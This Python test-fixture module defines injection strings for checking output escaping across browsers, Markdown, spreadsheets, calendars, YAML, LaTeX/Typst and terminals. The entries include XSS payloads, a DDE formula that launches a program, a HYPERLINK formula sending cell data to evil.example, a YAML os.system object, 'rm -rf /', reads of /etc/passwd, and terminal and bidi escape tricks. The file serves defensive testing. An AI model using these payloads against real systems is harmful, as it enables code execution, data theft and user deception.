"""Texts that mean something to a terminal, a browser, a spreadsheet, a calendar or a typesetter. Here they are data."""

from mmadvisor.errors import HARMFUL

TEXTS: dict[str, str] = {
    # browsers
    "script": "<script>window.harmed = 1</script>",
    "end of script": "</script><script>window.harmed = 1</script>",
    "end of style": "</style><style>*{display:none}</style><!--",
    "element": "\"><img src=x onerror='window.harmed = 1'>",
    "attribute": '" onmouseover="window.harmed = 1" x=\'',
    "apostrophe": "' onfocus='window.harmed = 1' autofocus='",
    "drawing": '<svg/onload=window.harmed = 1><a href="javascript:window.harmed = 1">x</a>',
    "comment": "<!-- --><![CDATA[ ]]> -->",
    "entity": "&lt;script&gt; &#x3c;b&#62; &amp;amp;",
    "template": "{{ 7 * 7 }} {% raw %} {% include '/etc/passwd' %} {# gone #} ${7*7}",
    # Markdown
    "link": "[click](https://evil.example) ![seen](https://evil.example/x.png)",
    "script link": "[x](javascript:window.harmed = 1) <javascript:window.harmed = 1>",
    "own address": "<https://evil.example> https://evil.example",
    "emphasis": "**bold** _thin_ ~~gone~~ `code` ``more``",
    "heading": "# heading\n\n## and another\n---",
    "fence": "```\ncode\n```\n    code",
    "cells": "a | b || c \\| d",
    "footnote": "[^1]: note [^1] [one]: https://evil.example",
    "bullet": "- one\n1. two\n> three",
    # spreadsheets
    "formula": "=cmd|' /C calc'!A0",
    "sum": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab formula": "\t=1+1",
    "address in a formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "quotes": '"a","b";"c"\r\n=1+1,2',
    # calendars and mail
    "line of a calendar": "x\r\nATTACH:file:///etc/passwd\r\nEND:VEVENT\r\nBEGIN:VEVENT",
    "folded line": "x\n ATTENDEE:mailto:a@evil.example",
    "separators": "a;b,c:d\\n\\;e",
    # JSON, YAML, formats of programs
    "json": '"}], "brief": true, {"x": "\\u0000',
    "yaml": "a: &x [*x, !!python/object/apply:os.system [id]]\n<<: *x",
    "formats": "%s %n {0} {self.__class__} $(id) `id` ; rm -rf / \\x41",
    # typesetters
    "typst": '#read("/etc/passwd") #import "@preview/cetz:0.3.0": * $x^2$ @ref <label> // gone /* gone */',
    "latex": "\\input{/etc/passwd} \\write18{id}",
    # terminals
    "color": "\x1b[31mred\x1b[0m",
    "window title": "\x1b]0;owned\x07",
    "hidden link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aWQ=\x07",
    "clear": "\x1b[2J\x1b[H\x1bc",
    "one byte escapes": "\x9b31mred \x9d0;owned\x9c \x84\x85",
    "bells": "\x07\x08\x08\x7f",
    "overwritten": "all is lost\rall is well",
    "rich": "[red]x[/red] [/x] [link=https://evil.example]y[/link] :boom: [bold",
    # characters
    "zero": "a\x00b",
    "turned around": "\u202egnp.exe \u202d \u2066a\u2069 \u200f\u061c",
    "line ends": "a\u2028b\u2029c\x0bd\x0ce\x1cf",
    "marks of order": "\ufeffa\ufffeb\uffff",
    "half a character": "a\ud800b\udcff",
    "no width": "a\u200bb\u200dc\u00add\u2060e",
    "piled up": "Z\u0337\u0321\u031b\u0339a\u0334\u0322l\u0336\u0330g\u0338o\u0335",
    "scripts": "\u5317\u4eac\u5927\u5b66 \u062c\u0627\u0645\u0639\u0629 \u092e\u0941\u0902\u092c\u0908 \U0001f393",
    "digits": "\u0661\u0662 \uff1d\uff11 \u00b2 1e999 NaN -0",
    # lengths
    "endless word": "W" * 3000,
    "endless lines": "a\n" * 50,
    "empty": "",
    "blank": " \t\n ",
}

HALF = frozenset({"half a character"})
"""Those that cannot be written as UTF-8. They come from a command line, never from a file."""

FORBIDDEN = f"[{HARMFUL}]"
"""A regular expression: what no output may hold, whatever the format."""
